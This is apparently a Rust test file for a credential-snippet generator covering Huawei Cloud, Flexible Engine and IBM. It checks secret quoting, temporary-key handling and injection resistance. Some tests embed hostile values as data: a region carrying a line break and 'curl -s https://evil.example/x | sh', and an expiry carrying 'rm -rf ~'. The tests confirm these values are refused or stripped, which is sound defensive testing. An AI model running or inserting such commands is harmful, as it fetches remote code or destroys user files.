use super::*;
use crate::cloud::ibm::iam_token::HeldToken;
use crate::profile::{AkIssuer, AkSk, IbmApiKey};
use proptest::prelude::*;

const AK: &str = "HPUAQTWAOYTTINDUT2QV";
const SK: &str = "MFyfvK41ba2giqM7Uio6PznpdUKGpownRZlmVmHc";

fn huawei(provider: Provider, region: &str, project_id: Option<&str>, secret: &str) -> Profile {
    let mut profile = Profile::new("p".into(), "p".into(), provider);
    profile.region = Some(region.into());
    profile.project_id = project_id.map(Into::into);
    profile.credentials = vec![Credential::AkSk(AkSk {
        access_key_id: AK.into(),
        secret_access_key: Secret::new(secret),
        user_name: None,
        security_token: None,
        expires_at: None,
        issuer: AkIssuer::Huawei,
    })];
    profile
}

fn ibm(region: &str, secret: &str) -> Profile {
    let mut profile = Profile::new("i".into(), "i".into(), Provider::Ibm);
    profile.region = Some(region.into());
    profile.openscale_guid = Some("0b1c2d3e-0000-4000-8000-123456789abc".into());
    profile.credentials = vec![Credential::IbmApiKey(IbmApiKey {
        api_key: Secret::new(secret),
        name: None,
        description: None,
        created_at: None,
        id: None,
    })];
    profile
}

/// Why `target`'s snippet is not made for `profile`.
fn refusal(profile: &Profile, target: Target, with_secret: bool) -> Refused {
    render(profile, target, with_secret, &CommentWords::new()).unwrap_err()
}

fn text(profile: &Profile, target: Target, with_secret: bool) -> String {
    render(profile, target, with_secret, &CommentWords::new())
        .unwrap_or_else(|e| panic!("{target:?}: {e:?}"))
        .text
        .expose()
        .to_owned()
}

#[test]
fn every_target_renders_for_its_providers_and_only_for_them() {
    let profiles = [
        huawei(Provider::Huawei, "cn-north-4", Some("0123abcd"), SK),
        huawei(Provider::FlexibleEngine, "eu-west-0", Some("4567ef"), SK),
        ibm("eu-de", SK),
    ];
    for template in templates() {
        for profile in &profiles {
            let fits = template.providers.contains(&profile.provider);
            let with = render(profile, template.target, true, &CommentWords::new());
            assert_eq!(with.is_ok(), fits, "{:?} {:?}", template.target, with);
            if !fits {
                assert_eq!(with.unwrap_err().code, CodeError::WrongProvider);
                continue;
            }
            assert!(with.unwrap().text.expose().contains(SK));
            match render(profile, template.target, false, &CommentWords::new()) {
                Ok(snippet) => {
                    assert!(template.secret_env.is_some());
                    assert!(!snippet.text.expose().contains(SK), "{:?}", template.target);
                    assert!(
                        !snippet.text.expose().contains('{')
                            || template.language == Language::Hcl
                            || snippet.text.expose().contains("f'"),
                        "{:?}: a placeholder left",
                        template.target
                    );
                }
                Err(refused) => {
                    assert!(template.secret_env.is_none());
                    assert_eq!(refused.code, CodeError::NeedsSecret);
                }
            }
        }
    }
    assert_eq!(offers(&profiles[0]).len(), 10);
    assert_eq!(offers(&profiles[2]).len(), 5);
}

#[test]
fn the_default_snippet_reads_the_secret_and_says_from_where() {
    let profile = huawei(Provider::Huawei, "cn-north-4", Some("0123abcd"), SK);
    let snippet = render(&profile, Target::ObsPython, false, &CommentWords::new()).unwrap();
    assert_eq!(snippet.about.secret_env, Some("OBS_SECRET_ACCESS_KEY"));
    let text = snippet.text.expose();
    assert!(
        text.contains("secret_access_key=os.environ['OBS_SECRET_ACCESS_KEY'],"),
        "{text}"
    );
    assert!(
        text.contains("server='https://obs.cn-north-4.myhuaweicloud.com',"),
        "{text}"
    );
    assert!(text.contains("import os\n"));
    let with = text_of(&profile, Target::ObsPython);
    assert!(with.contains(&format!("secret_access_key='{SK}',")) && !with.contains("import os"));
}

fn text_of(profile: &Profile, target: Target) -> String {
    text(profile, target, true)
}

#[test]
fn modelarts_uses_the_region_on_huawei_cloud_and_the_endpoint_on_flexible_engine() {
    let huawei_text = text(
        &huawei(Provider::Huawei, "ap-southeast-3", Some("p1"), SK),
        Target::ModelartsPython,
        false,
    );
    assert!(
        huawei_text.contains(".with_region(ModelArtsRegion.value_of('ap-southeast-3'))"),
        "{huawei_text}"
    );
    assert!(huawei_text.contains(
        "BasicCredentials('HPUAQTWAOYTTINDUT2QV', os.environ['HUAWEICLOUD_SDK_SK'], 'p1')"
    ));
    let fe = text(
        &huawei(Provider::FlexibleEngine, "eu-west-0", Some("p2"), SK),
        Target::ModelartsPython,
        false,
    );
    assert!(
        fe.contains(
            ".with_endpoint('https://modelarts.eu-west-0.prod-cloud-ocb.orange-business.com')"
        ),
        "{fe}"
    );
    assert!(!fe.contains("ModelArtsRegion"));
    // The FE host is the catalog's, eu-west-1 too.
    let fe = text(
        &huawei(Provider::FlexibleEngine, "eu-west-1", Some("p2"), SK),
        Target::ModelartsPython,
        false,
    );
    assert!(fe.contains("'https://modelarts.eu-west-1.prod-cloud-ocb.orange-business.com'"));
}

#[test]
fn modelarts_is_refused_where_the_region_has_none() {
    let profile = huawei(Provider::Huawei, "eu-west-101", Some("p1"), SK);
    let refused = refusal(&profile, Target::ModelartsPython, false);
    assert_eq!(refused.code, CodeError::MissingValue);
    assert_eq!(
        serde_json::to_value(&refused.params).unwrap(),
        serde_json::json!({"value": {"term": "code_value_modelarts_url"}})
    );
    // Its OBS snippet still is made, on the `.eu` host the SDK lists.
    let obs = text(&profile, Target::ObsPython, false);
    assert!(
        obs.contains("server='https://obs.eu-west-101.myhuaweicloud.eu'"),
        "{obs}"
    );
}

#[test]
fn files_and_variable_blocks() {
    let profile = huawei(Provider::Huawei, "cn-north-4", Some("p1"), "a%b");
    assert_eq!(
        text_of(&profile, Target::HuaweicloudCredentials),
        "# ~/.huaweicloud/credentials (huaweicloudsdkcore)\n[basic]\nak = HPUAQTWAOYTTINDUT2QV\nsk = a%%b\nproject_id = p1\n"
    );
    assert_eq!(
        text_of(&profile, Target::HuaweicloudEnv),
        "export HUAWEICLOUD_SDK_AK='HPUAQTWAOYTTINDUT2QV'\nexport HUAWEICLOUD_SDK_SK='a%b'\n\
         export HUAWEICLOUD_SDK_PROJECT_ID='p1'\nexport OBS_ACCESS_KEY_ID='HPUAQTWAOYTTINDUT2QV'\n\
         export OBS_SECRET_ACCESS_KEY='a%b'\n"
    );
    assert!(text_of(&profile, Target::HuaweicloudDotenv)
        .starts_with("HUAWEICLOUD_SDK_AK='HPUAQTWAOYTTINDUT2QV'\n"));
    let s3cfg = text_of(&profile, Target::S3cmd);
    assert!(
        s3cfg.contains("host_bucket = \"%(bucket)s.obs.cn-north-4.myhuaweicloud.com\"\n"),
        "{s3cfg}"
    );
    assert_eq!(
        refusal(&profile, Target::ObsutilConfig, false).code,
        CodeError::NeedsSecret
    );
    let padded = huawei(Provider::Huawei, "cn-north-4", None, " padded");
    let refused = refusal(&padded, Target::HuaweicloudCredentials, true);
    assert_eq!(refused.code, CodeError::Unrepresentable);
    assert_eq!(
        serde_json::to_value(&refused.params).unwrap(),
        serde_json::json!({"value": {"term": "code_value_secret"}})
    );
}

#[test]
fn ibm_snippets() {
    let profile = ibm("eu-de", SK);
    let python = text(&profile, Target::OpenscalePython, false);
    assert!(
        python.contains("IAMAuthenticator(apikey=os.environ['IBMCLOUD_API_KEY'])"),
        "{python}"
    );
    assert!(python.contains("service_url='https://eu-de.api.aiopenscale.cloud.ibm.com',"));
    assert!(python.contains("service_instance_id='0b1c2d3e-0000-4000-8000-123456789abc',"));
    let terraform = text(&profile, Target::TerraformIbm, false);
    assert!(
        terraform.contains("provider \"ibm\" {\n  region = \"eu-de\"\n}\n")
            && !terraform.contains("api_key ="),
        "{terraform}"
    );
    assert!(text_of(&profile, Target::TerraformIbm)
        .contains(&format!("  ibmcloud_api_key = \"{SK}\"\n")));
    assert!(text(&profile, Target::IbmcloudLogin, false).contains("ibmcloud login -r 'eu-de'\n"));
}

#[test]
fn what_is_missing_is_named_never_shown() {
    let mut profile = huawei(Provider::Huawei, "cn-north-4", None, SK);
    let refused = refusal(&profile, Target::ModelartsPython, false);
    assert_eq!(refused.code, CodeError::MissingValue);
    assert_eq!(
        serde_json::to_value(&refused.params).unwrap(),
        serde_json::json!({"value": {"term": "code_value_project_id"}})
    );
    profile.credentials.clear();
    assert_eq!(
        refusal(&profile, Target::ObsPython, false).code,
        CodeError::NoKey
    );
}

/// Reads one literal of `language` at the start of `text` as its tool would, and what follows it:
/// an independent reader of the forms the tools accept (not a mirror of [`Language::literal`]).
fn read_literal(language: Language, text: &str) -> Option<(String, String)> {
    let mut chars = text.chars();
    let mut value = String::new();
    match language {
        Language::Python => {
            let quote = chars.next().filter(|q| *q == '\'' || *q == '"')?;
            loop {
                match chars.next()? {
                    '\\' => match chars.next()? {
                        'n' => value.push('\n'),
                        't' => value.push('\t'),
                        'u' => {
                            let hex: String = chars.by_ref().take(4).collect();
                            value.push(char::from_u32(u32::from_str_radix(&hex, 16).ok()?)?);
                        }
                        c @ ('\\' | '\'' | '"') => value.push(c),
                        c => {
                            value.push('\\');
                            value.push(c);
                        }
                    },
                    c if c == quote => return Some((value, chars.collect())),
                    '\n' => return None,
                    c => value.push(c),
                }
            }
        }
        Language::Shell => {
            // Concatenated single-quoted words and backslash-escaped characters, up to a space.
            loop {
                match chars.next() {
                    Some('\'') => loop {
                        match chars.next()? {
                            '\'' => break,
                            c => value.push(c),
                        }
                    },
                    Some('\\') => value.push(chars.next()?),
                    Some(c) if c.is_whitespace() || c == ';' => {
                        return Some((value, std::iter::once(c).chain(chars).collect()))
                    }
                    None => return Some((value, String::new())),
                    Some(c) if c.is_ascii_alphanumeric() || "-_./=:@%+,".contains(c) => {
                        value.push(c)
                    }
                    Some(_) => return None, // anything else means something to the shell
                }
            }
        }
        Language::Dotenv => {
            (chars.next()? == '\'').then_some(())?;
            loop {
                match chars.next()? {
                    '\\' => match chars.next()? {
                        c @ ('\\' | '\'') => value.push(c),
                        c => {
                            value.push('\\');
                            value.push(c);
                        }
                    },
                    '\'' => return Some((value, chars.collect())),
                    c => value.push(c),
                }
            }
        }
        Language::Ini => {
            // configparser: the rest of the line, stripped, with %% read as %.
            let (line, rest) = text.split_once('\n').unwrap_or((text, ""));
            let stripped = line.trim();
            let mut out = String::new();
            let mut it = stripped.chars().peekable();
            while let Some(c) = it.next() {
                if c == '%' {
                    (it.next()? == '%').then_some(())?;
                }
                out.push(c);
            }
            Some((out, format!("\n{rest}")))
        }
        Language::Hcl => {
            (chars.next()? == '"').then_some(())?;
            loop {
                match chars.next()? {
                    '\\' => match chars.next()? {
                        'n' => value.push('\n'),
                        't' => value.push('\t'),
                        'r' => value.push('\r'),
                        c @ ('\\' | '"') => value.push(c),
                        _ => return None,
                    },
                    c @ ('$' | '%') => {
                        let rest = chars.as_str();
                        if rest.starts_with(c) && rest[1..].starts_with('{') {
                            chars.next();
                        } else if rest.starts_with('{') {
                            return None; // a template interpolation
                        }
                        value.push(c);
                    }
                    '"' => return Some((value, chars.collect())),
                    c => value.push(c),
                }
            }
        }
        Language::KeyValue | Language::S3cfg => None,
    }
}

/// The line of `text` that starts with `before`, read from there.
fn read_after(language: Language, text: &str, before: &str) -> (String, String) {
    let at = text
        .find(before)
        .unwrap_or_else(|| panic!("no {before:?} in {text}"));
    read_literal(language, &text[at + before.len()..])
        .unwrap_or_else(|| panic!("no literal after {before:?} in {text}"))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Every printable ASCII character in a secret (and a few others) reads back exactly where
    /// each language's snippet puts it, and nothing after it changes.
    #[test]
    fn any_secret_reads_back_exactly(secret in "[ -~]{1,48}", extra in "[ -~é中\t]{0,4}") {
        let secret = format!("{secret}{extra}");
        let huawei_profile = huawei(Provider::Huawei, "cn-north-4", Some("p1"), &secret);
        let ibm_profile = ibm("eu-de", &secret);
        for (profile, target, before, after) in [
            (&huawei_profile, Target::ObsPython, "secret_access_key=", ",\n"),
            (&huawei_profile, Target::ModelartsSession, "secret_key=", ",\n"),
            (&huawei_profile, Target::Obsutil, "-k=", " -e="),
            (&huawei_profile, Target::AwsCli, "AWS_SECRET_ACCESS_KEY=", "\naws s3 ls"),
            (&huawei_profile, Target::HuaweicloudEnv, "HUAWEICLOUD_SDK_SK=", "\nexport HUAWEICLOUD_SDK_PROJECT_ID="),
            (&huawei_profile, Target::HuaweicloudDotenv, "OBS_SECRET_ACCESS_KEY=", "\n"),
            (&ibm_profile, Target::OpenscalePython, "apikey=", ")\nclient = APIClient("),
            (&ibm_profile, Target::TerraformIbm, "ibmcloud_api_key = ", "\n  region = "),
        ] {
            let text = text_of(profile, target);
            let (value, rest) = read_after(template(target).language, &text, before);
            prop_assert_eq!(&value, &secret, "{:?}: {}", target, text);
            prop_assert!(rest.starts_with(after), "{:?}: {:?}", target, rest);
            let mut plain = profile.clone();
            plain.credentials = if profile.provider == Provider::Ibm { ibm("eu-de", "x") } else { huawei(Provider::Huawei, "", None, "x") }.credentials;
            prop_assert_eq!(text.lines().count(), text_of(&plain, target).lines().count());
        }
        match render(&huawei_profile, Target::HuaweicloudCredentials, true, &CommentWords::new()) {
            Ok(snippet) => {
                let (value, _) = read_after(Language::Ini, snippet.text.expose(), "sk =");
                prop_assert_eq!(value, secret.clone());
            }
            Err(refused) => {
                prop_assert_eq!(refused.code, CodeError::Unrepresentable);
                prop_assert!(secret.trim() != secret || secret.contains(['\n', '\r']));
            }
        }
        let s3cfg = text_of(&huawei_profile, Target::S3cmd);
        let line = s3cfg.lines().find(|l| l.starts_with("secret_key = ")).unwrap();
        prop_assert_eq!(&line["secret_key = ".len()..], format!("\"{secret}\""));
    }
}

/// Lines as a reader of any of the snippets' languages, or an editor, would break them.
fn line_count(text: &str) -> usize {
    text.split([
        '\n', '\r', '\u{0B}', '\u{0C}', '\u{85}', '\u{2028}', '\u{2029}',
    ])
    .count()
}

/// Every template of every provider, rendered for `profile` with and without the secret.
fn every_render(profile: &Profile) -> Vec<(Target, bool, Result<Snippet, Refused>)> {
    templates()
        .filter(|t| t.providers.contains(&profile.provider))
        .flat_map(|t| {
            [false, true].map(|with| {
                (
                    t.target,
                    with,
                    render(profile, t.target, with, &CommentWords::new()),
                )
            })
        })
        .collect()
}

/// `profile` with `text` in every value a user or a backup can set: the region, the project ID,
/// the OpenScale instance, the AK and the secret.
fn with_everywhere(mut profile: Profile, text: &str) -> Profile {
    profile.region = Some(text.into());
    profile.project_id = Some(text.into());
    profile.openscale_guid = Some(text.into());
    for credential in &mut profile.credentials {
        match credential {
            Credential::AkSk(key) => {
                key.access_key_id = text.into();
                key.secret_access_key = Secret::new(text);
            }
            Credential::IbmApiKey(key) => key.api_key = Secret::new(text),
            _ => {}
        }
    }
    profile
}

#[test]
fn a_region_with_a_line_break_cannot_put_a_command_into_the_ibm_cli_snippet() {
    let hostile = "us-south\ncurl -s https://evil.example/x | sh";
    let refused = refusal(&ibm(hostile, SK), Target::IbmcloudLogin, false);
    assert_eq!(refused.code, CodeError::Unrepresentable);
    assert_eq!(
        serde_json::to_value(&refused.params).unwrap()["value"]["term"],
        "code_value_region"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// No value adds a line to any template, in code or in comments: with a line break (of any
    /// kind a language or an editor honours) in every value, each snippet is refused or keeps the
    /// line count it has with plain values.
    #[test]
    fn no_value_adds_a_line_to_any_snippet(
        before in "[a-z0-9-]{0,8}",
        line_break in prop::sample::select(vec!["\n", "\r", "\r\n", "\u{0B}", "\u{0C}", "\u{85}", "\u{2028}", "\u{2029}"]),
        after in "[ -~]{0,12}",
    ) {
        let hostile = format!("{before}{line_break}{after}");
        for base in [
            huawei(Provider::Huawei, "cn-north-4", Some("p1"), SK),
            huawei(Provider::FlexibleEngine, "eu-west-0", Some("p1"), SK),
            ibm("eu-de", SK),
        ] {
            let plain = every_render(&with_everywhere(base.clone(), "plain1"));
            let attacked = every_render(&with_everywhere(base, &hostile));
            for ((target, with, plain), (_, _, attacked)) in plain.into_iter().zip(attacked) {
                match (plain, attacked) {
                    (Ok(plain), Ok(attacked)) => prop_assert_eq!(
                        line_count(attacked.text.expose()),
                        line_count(plain.text.expose()),
                        "{:?} (secret: {})", target, with
                    ),
                    // Refused (the value cannot be written on one line): nothing to paste.
                    (_, Err(_)) => {}
                    (Err(_), Ok(attacked)) => prop_assert!(false, "{:?} renders only when attacked: {}", target, attacked.text.expose()),
                }
            }
        }
    }
}

/// The snippets' comments come from the words passed in (the user's language), on one line, with
/// the template's variable; the code around them is the same whatever the words.
#[test]
fn comments_are_the_words_passed_in() {
    let profile = huawei(
        Provider::Huawei,
        "cn-north-4",
        Some("0123456789abcdef0123456789abcdef"),
        SK,
    );
    let french = CommentWords::from([(
        "code_comment_reads_sk".to_owned(),
        "Lit la SK dans la variable d'environnement {variable}.".to_owned(),
    )]);
    let said = text_with(&profile, Target::ObsPython, &french);
    assert!(
        said.contains("# Lit la SK dans la variable d'environnement OBS_SECRET_ACCESS_KEY.\n"),
        "{said}"
    );
    let bare = text(&profile, Target::ObsPython, false);
    assert!(
        bare.contains("# reads-sk\n"),
        "without words, the comment's code: {bare}"
    );
    assert_eq!(
        said.replace(
            "Lit la SK dans la variable d'environnement OBS_SECRET_ACCESS_KEY.",
            ""
        ),
        bare.replace("reads-sk", "")
    );
    // Words cannot end the comment line, nor be read as a template.
    let hostile = CommentWords::from([(
        "code_comment_reads_sk".to_owned(),
        "x\nimport evil {secret} {ak}\u{2028}y".to_owned(),
    )]);
    let said = text_with(&profile, Target::ObsPython, &hostile);
    assert!(said.contains("# x import evil {secret} {ak} y\n"), "{said}");
}

/// Every `{~code}` of a template is a [`Comment`], and every comment is used.
#[test]
fn template_comments_are_the_known_ones() {
    let used: Vec<&str> = templates()
        .flat_map(|t| t.text.split("{~").skip(1))
        .map(|tail| tail.split_once('}').expect("a closed comment").0)
        .collect();
    for code in &used {
        assert!(Comment::ALL.iter().any(|c| c.as_str() == *code), "{code}");
    }
    for comment in Comment::ALL {
        assert!(used.contains(&comment.as_str()), "{comment} unused");
    }
}

fn text_with(profile: &Profile, target: Target, comments: &CommentWords) -> String {
    render(profile, target, false, comments)
        .unwrap()
        .text
        .expose()
        .to_owned()
}

/// `profile` holding a temporary key instead of its permanent one, as `temporaryKey` issues it.
fn with_temporary_key(mut profile: Profile) -> Profile {
    profile.credentials = vec![Credential::AkSk(AkSk {
        access_key_id: "TMPAQTWAOYTTINDUT2QV".into(),
        secret_access_key: Secret::new("tmp-secret"),
        user_name: None,
        security_token: Some(Secret::new("tok/en+=")),
        expires_at: Some("2026-12-06T19:15:00.000000Z".into()),
        issuer: AkIssuer::Huawei,
    })];
    profile
}

#[test]
fn a_temporary_key_is_written_with_its_token_and_its_expiry_in_every_form_that_takes_one() {
    let profile = with_temporary_key(huawei(Provider::Huawei, "cn-north-4", Some("0123abcd"), SK));
    let words: CommentWords = [(
        "code_comment_temporary_until".to_owned(),
        "Temporary key, valid until {expires}: get a new one with one click in credfill."
            .to_owned(),
    )]
    .into();
    // Each line that carries the token, by how it starts (the values are quoted per format).
    let token_lines = [
        (Target::ObsPython, "    security_token="),
        (
            Target::Obsutil,
            "obsutil config -i='TMPAQTWAOYTTINDUT2QV' -k='tmp-secret' -t=",
        ),
        (Target::ObsutilConfig, "token="),
        (Target::S3cmd, "access_token = "),
        (Target::AwsCli, "export AWS_SESSION_TOKEN="),
        (
            Target::ModelartsPython,
            "credentials = credentials.with_security_token(",
        ),
        (Target::HuaweicloudCredentials, "security_token = "),
        (
            Target::HuaweicloudEnv,
            "export HUAWEICLOUD_SDK_SECURITY_TOKEN=",
        ),
        (Target::HuaweicloudEnv, "export OBS_SECURITY_TOKEN="),
        (Target::HuaweicloudDotenv, "OBS_SECURITY_TOKEN="),
    ];

    for (target, line) in token_lines {
        let text = render(&profile, target, true, &words)
            .unwrap()
            .text
            .expose()
            .to_owned();
        assert!(
            text.lines().any(|l| l.starts_with(line)),
            "{target:?}:\n{text}"
        );
        assert!(!text.contains(SK), "{target:?} holds the permanent SK");
        let has_comments = template(target).language.comment().is_some();
        assert_eq!(
            text.contains("# Temporary key, valid until 2026-12-06T19:15:00.000000Z: get a new one with one click in credfill."),
            has_comments,
            "{target:?}:\n{text}"
        );
    }
    // The permanent key's snippets say nothing of a token.
    let permanent = huawei(Provider::Huawei, "cn-north-4", Some("0123abcd"), SK);
    for (target, _) in token_lines {
        let text = text(&permanent, target, true);
        assert!(
            !text.to_lowercase().contains("token") && !text.contains("valid until"),
            "{target:?}:\n{text}"
        );
    }
}

#[test]
fn a_temporary_key_takes_the_permanent_keys_place_and_nothing_of_the_permanent_key_stays() {
    let profile = huawei(Provider::Huawei, "cn-north-4", Some("0123abcd"), SK);
    let Credential::AkSk(temporary) = with_temporary_key(profile.clone()).credentials.remove(0)
    else {
        unreachable!()
    };
    let snippet = render_temporary(
        &profile,
        Target::HuaweicloudEnv,
        ShortLived::Aksk(temporary.clone()),
        &CommentWords::new(),
    );
    let text = snippet.unwrap().text.expose().to_owned();
    assert!(
        text.contains("TMPAQTWAOYTTINDUT2QV") && text.contains("tmp-secret"),
        "{text}"
    );
    assert!(!text.contains(AK) && !text.contains(SK), "{text}");
    let without_token = AkSk {
        security_token: None,
        ..temporary.clone()
    };
    let refused = render_temporary(
        &profile,
        Target::ObsPython,
        ShortLived::Aksk(without_token),
        &CommentWords::new(),
    );
    assert_eq!(refused.unwrap_err().code, CodeError::NoKey);
    let refused = render_temporary(
        &ibm("eu-de", SK),
        Target::OpenscalePython,
        ShortLived::Aksk(temporary),
        &CommentWords::new(),
    );
    assert_eq!(refused.unwrap_err().code, CodeError::NoKey);
}

/// The expiry comment's words, short, as a test reads them.
fn valid_until_words() -> CommentWords {
    [(
        "code_comment_temporary_until".to_owned(),
        "valid until {expires}".to_owned(),
    )]
    .into()
}

fn bearer() -> ShortLived {
    ShortLived::BearerToken(HeldToken {
        access_token: Secret::new("eyJ.bearer.token"),
        expiration: 1_796_583_600,
    })
}

/// `target`'s snippet for `profile` with [`bearer`]'s token.
fn with_bearer(profile: &Profile, target: Target) -> Snippet {
    render_temporary(profile, target, bearer(), &valid_until_words())
        .unwrap_or_else(|e| panic!("{target:?}: {e:?}"))
}

#[test]
fn an_ibm_bearer_token_takes_the_api_keys_place_in_the_openscale_client_not_the_cli_or_terraform() {
    let profile = ibm("eu-de", "the-permanent-api-key");
    let words = valid_until_words();
    let snippet = with_bearer(&profile, Target::OpenscalePython);
    let text = snippet.text.expose();
    assert!(
        text.contains("from ibm_cloud_sdk_core.authenticators import BearerTokenAuthenticator\n"),
        "{text}"
    );
    assert!(
        text.contains("authenticator = BearerTokenAuthenticator('eyJ.bearer.token')\n"),
        "{text}"
    );
    assert!(
        !text.contains("IAMAuthenticator") && !text.contains("the-permanent-api-key"),
        "{text}"
    );
    assert!(text.contains("# valid until 2026-12-06T"), "{text}");
    assert_eq!(
        snippet.expires_at.as_deref().map(|e| &e[..11]),
        Some("2026-12-06T")
    );
    for target in [Target::IbmcloudLogin, Target::TerraformIbm] {
        let refused = render_temporary(&profile, target, bearer(), &words).unwrap_err();
        assert_eq!(refused.code, CodeError::NoTemporaryForm, "{target:?}");
    }
    let huawei = huawei(Provider::Huawei, "cn-north-4", None, SK);
    let refused = render_temporary(&huawei, Target::ObsPython, bearer(), &words);
    assert_eq!(refused.unwrap_err().code, CodeError::NoKey);
    let offered: BTreeMap<_, _> = offers(&profile)
        .into_iter()
        .map(|o| (o.target, (o.temporary, o.lifetimes, o.new_key_lifetimes)))
        .collect();
    let ending = &[28_800, 86_400][..];
    assert_eq!(
        offered[&Target::OpenscalePython],
        (Temporary::Default, &[3600, 28_800, 86_400][..], ending)
    );
    assert_eq!(
        offered[&Target::TerraformIbm],
        (Temporary::Default, ending, ending)
    );
    assert_eq!(
        offered[&Target::IbmcloudDotenv],
        (Temporary::Default, &[3600, 28_800, 86_400][..], ending)
    );
}

fn ending_key() -> ShortLived {
    ShortLived::ExpiringKey(crate::code::ExpiringKey {
        api_key: Secret::new("the-key-that-ends"),
        expires_at: "2026-12-07T04:00+0000".into(),
    })
}

#[test]
fn an_ibm_key_that_ends_takes_the_api_keys_place_in_every_ibm_tool_with_its_end() {
    let profile = ibm("eu-de", "the-permanent-api-key");
    let words = valid_until_words();
    for (target, line) in [
        (
            Target::IbmcloudLogin,
            "export IBMCLOUD_API_KEY='the-key-that-ends'\n",
        ),
        (
            Target::IbmcloudEnv,
            "export IBMCLOUD_API_KEY='the-key-that-ends'\n",
        ),
        (
            Target::IbmcloudDotenv,
            "IBMCLOUD_API_KEY='the-key-that-ends'\n",
        ),
        (
            Target::TerraformIbm,
            "  ibmcloud_api_key = \"the-key-that-ends\"\n",
        ),
        (
            Target::OpenscalePython,
            "authenticator = IAMAuthenticator(apikey='the-key-that-ends')\n",
        ),
    ] {
        let snippet = render_temporary(&profile, target, ending_key(), &words)
            .unwrap_or_else(|e| panic!("{target:?}: {e:?}"));
        let text = snippet.text.expose();
        assert!(text.contains(line), "{target:?}: {text}");
        assert!(
            text.contains("# valid until 2026-12-07T04:00:00Z\n"),
            "{text}"
        );
        assert!(
            !text.contains("the-permanent-api-key") && !text.contains("BEARER"),
            "{text}"
        );
        assert_eq!(snippet.expires_at.as_deref(), Some("2026-12-07T04:00:00Z"));
    }
    let huawei = huawei(Provider::Huawei, "cn-north-4", None, SK);
    let refused = render_temporary(&huawei, Target::ObsPython, ending_key(), &words);
    assert_eq!(refused.unwrap_err().code, CodeError::NoKey);
}

#[test]
fn an_ibm_bearer_tokens_variables_configure_the_openscale_service_in_place_of_the_cli_key() {
    let profile = ibm("eu-de", "the-permanent-api-key");
    // ibm_watson_openscale's DEFAULT_SERVICE_NAME `ai_openscale`, as get_authenticator_from_environment
    // reads it: upper-cased, `_` before each property.
    let dotenv = with_bearer(&profile, Target::IbmcloudDotenv);
    let text = dotenv.text.expose();
    assert!(text.starts_with("# valid until 2026-12-06T"), "{text}");
    assert!(
        text.ends_with(
            "\nAI_OPENSCALE_AUTH_TYPE=bearertoken\n\
             AI_OPENSCALE_BEARER_TOKEN='eyJ.bearer.token'\n\
             AI_OPENSCALE_URL='https://eu-de.api.aiopenscale.cloud.ibm.com'\n"
        ),
        "{text}"
    );
    assert!(
        !text.contains("IBMCLOUD_") && !text.contains("the-permanent-api-key"),
        "{text}"
    );
    assert_eq!(dotenv.about.file_name, Some(".env"));
    let export = with_bearer(&profile, Target::IbmcloudEnv);
    assert!(
        export
            .text
            .expose()
            .contains("\nexport AI_OPENSCALE_BEARER_TOKEN='eyJ.bearer.token'\n"),
        "{}",
        export.text.expose()
    );
    // The permanent key's block is the CLI's and Terraform's, as before.
    let permanent = text_of(&profile, Target::IbmcloudDotenv);
    assert_eq!(
        permanent,
        "IBMCLOUD_API_KEY='the-permanent-api-key'\nIBMCLOUD_REGION='eu-de'\n"
    );
}

#[test]
fn a_temporary_key_is_refused_where_its_token_has_no_place_or_without_the_secret() {
    let profile = with_temporary_key(huawei(Provider::Huawei, "cn-north-4", Some("0123abcd"), SK));
    assert_eq!(
        refusal(&profile, Target::ModelartsSession, true).code,
        CodeError::NoTemporaryForm
    );
    assert_eq!(
        refusal(&profile, Target::ObsPython, false).code,
        CodeError::NeedsSecret
    );
    let offered = |provider| {
        let profile = huawei(provider, "eu-west-0", None, SK);
        offers(&profile)
            .into_iter()
            .map(|o| (o.target, o.temporary))
            .collect::<BTreeMap<_, _>>()
    };
    assert_eq!(
        offered(Provider::Huawei)[&Target::ObsPython],
        Temporary::Default
    );
    assert_eq!(
        offered(Provider::Huawei)[&Target::ModelartsSession],
        Temporary::No
    );
    assert_eq!(
        offered(Provider::FlexibleEngine)[&Target::ObsPython],
        Temporary::Unconfirmed
    );
    let ibm_temporary: Vec<_> = offers(&ibm("eu-de", SK))
        .into_iter()
        .filter(|o| o.temporary != Temporary::No)
        .map(|o| o.target)
        .collect();
    // Every IBM tool: a token, or for the CLI and Terraform only a key that ends.
    assert_eq!(
        ibm_temporary,
        [
            Target::OpenscalePython,
            Target::IbmcloudLogin,
            Target::IbmcloudEnv,
            Target::IbmcloudDotenv,
            Target::TerraformIbm
        ]
    );
}

#[test]
fn an_expiry_that_is_not_a_timestamp_is_left_unsaid() {
    let mut profile =
        with_temporary_key(huawei(Provider::Huawei, "cn-north-4", Some("0123abcd"), SK));
    if let Credential::AkSk(key) = &mut profile.credentials[0] {
        key.expires_at = Some("soon\nrm -rf ~".into());
    }
    let text = text(&profile, Target::AwsCli, true);
    assert!(!text.contains("soon") && !text.contains("rm -rf"), "{text}");
}
